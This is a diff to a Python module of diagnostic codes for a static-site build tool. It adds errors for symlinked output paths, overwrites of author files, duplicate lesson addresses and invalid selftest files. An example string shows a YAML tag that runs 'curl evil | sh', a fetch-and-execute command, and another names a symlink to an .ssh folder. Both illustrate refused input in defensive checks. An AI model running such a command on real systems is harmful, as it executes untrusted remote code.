@@ -1,4 +1,5 @@
-"""Diagnostic codes of the site stage (A5xx); kept import-light so `registry()` can load it."""
+"""Diagnostic codes of the site stage and of the commands that write files (A5xx); kept
+import-light so `registry()` can load it."""
 
 from __future__ import annotations
 
@@ -62,5 +63,50 @@ CONFIG = define(
     example='theme: !!python/object/apply:os.system ["curl evil | sh"]',
     fix="Remove the entry. Hooks, other plugins, extensions and extra_javascript are allowed "
     "with `atlas-build build --trust-config` (code you have reviewed); tags never are.",
+    stage=STAGE,
+)
+
+OUTPUT = "output"  # build, import and new: where they may write
+OUTPUT_LINK = define(
+    "A507",
+    "output-path-refused",
+    Severity.ERROR,
+    "A folder or file atlas-build would write is a symbolic link, or lies under one, or is "
+    "not a folder: a repository can commit `build` or a lesson folder as a link to anywhere, "
+    "so nothing is written through it.",
+    example="build -> /home/ci/.ssh committed to the repository",
+    fix="Remove the link (atlas-build creates the folder itself) or name another folder.",
+    stage=OUTPUT,
+)
+AUTHOR_FILE = define(
+    "A508",
+    "author-file-exists",
+    Severity.ERROR,
+    "`new` or `import` would replace a file the author already has; nothing was written.",
+    example="atlas-build new kv-cache when content/kv-cache/claims.yaml exists",
+    fix="Pass --force to replace it, or choose another lesson folder.",
+    stage=OUTPUT,
+)
+PUBLISHED_TWICE = define(
+    "A509",
+    "published-twice",
+    Severity.ERROR,
+    "Two lessons would be published at one address: the same page `/lessons/<slug>/` (a "
+    "folder named like another lesson's slug, or an id that becomes one when the folder "
+    "name is not a plain slug) or the same `records/<id>.json`. A build stops before it "
+    "writes or deletes anything; with --allow-errors neither lesson is published.",
+    example="content/kv-cache/ and content/KV Cache/ whose id is kv-cache",
+    fix="Rename one folder or change one id.",
+    stage=OUTPUT,
+)
+SELFTEST_FILE = define(
+    "A510",
+    "selftest-file-invalid",
+    Severity.WARNING,
+    "The `build --selftest` file, or a value in it, cannot be used: it is not a regular "
+    "file, is too large, is not selftest JSON, or holds a value that is not what selftest "
+    "writes. The Selftest page leaves that out and says so.",
+    example='"killed": 1e4000, or build/selftest.json -> /dev/zero',
+    fix="Write the file again with `atlas-build selftest --format json`.",
     stage=STAGE,
 )
